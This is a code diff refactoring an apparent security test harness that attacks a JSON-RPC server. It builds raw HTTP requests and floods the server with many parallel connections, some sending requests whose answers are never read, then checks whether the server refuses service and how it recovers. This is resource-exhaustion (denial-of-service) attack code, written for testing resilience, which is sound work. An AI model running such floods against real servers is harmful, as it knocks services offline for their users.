@@ -49,6 +49,14 @@ def _send(target: Target, message: object, version: str, **headers: str) -> http
     return target.http.post(_PATH, json=message, headers={**_headers(target, message, version), **headers})
 
 
+def _raw(target: Target, message: object) -> bytes:
+    """A whole request, for a connection of the attack's own."""
+    body = json.dumps(message).encode()
+    fields = {"Host": "x", "Content-Type": "application/json", "Content-Length": len(body)}
+    lines = [f"{name}: {value}" for name, value in {**fields, **_headers(target, None, _OLD)}.items()]
+    return "\r\n".join([f"POST {_PATH} HTTP/1.1", *lines, "", ""]).encode() + body
+
+
 def _document(answer: httpx.Response) -> Any:
     """The JSON of an answer, which may be the last event of a stream."""
     events = [line.removeprefix("data: ") for line in answer.text.splitlines() if line.startswith("data: {")]
@@ -146,16 +154,14 @@ def _waits(count: int, method: str, params_of: Callable[[str], dict[str, Any]]) 
 
     def attack(target: Target) -> str:
         name = _scheduled(target)
-        message = json.dumps(_message(method, params_of(name), _OLD)).encode()
-        head = "".join(f"{key}: {value}\r\n" for key, value in _headers(target, None, _OLD).items())
-        begin = f"POST {_PATH} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n{head}"
-        request = f"{begin}Content-Length: {len(message)}\r\n\r\n".encode() + message
+        message = _message(method, params_of(name), _OLD)
+        request = _raw(target, message)
         with ExitStack() as held:
             connections = [held.enter_context(connected(target)) for _ in range(count)]
             for connection in connections:
                 connection.sendall(request)
             time.sleep(1)
-            refused = _told(_send(target, json.loads(message), _OLD))
+            refused = _told(_send(target, message, _OLD))
         ends_at = time.monotonic() + _PATIENCE_SECONDS
         is_free = False
         while not is_free and time.monotonic() < ends_at:
@@ -190,14 +196,8 @@ def _reads(target: Target) -> str:
 
 def _unread(target: Target) -> str:
     """Ask for a large file on many connections, and read no answer."""
-    message = json.dumps(
-        _message("resources/read", {"uri": f"reelworks://generations/{_large_result(target)}/content"}, _OLD)
-    ).encode()
-    head = "".join(f"{key}: {value}\r\n" for key, value in _headers(target, None, _OLD).items())
-    request = (
-        f"POST {_PATH} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n{head}"
-        f"Content-Length: {len(message)}\r\n\r\n"
-    ).encode() + message
+    name = _large_result(target)
+    request = _raw(target, _message("resources/read", {"uri": f"reelworks://generations/{name}/content"}, _OLD))
     with ExitStack() as held:
         for _ in range(_AT_ONCE):
             held.enter_context(connected(target)).sendall(request)
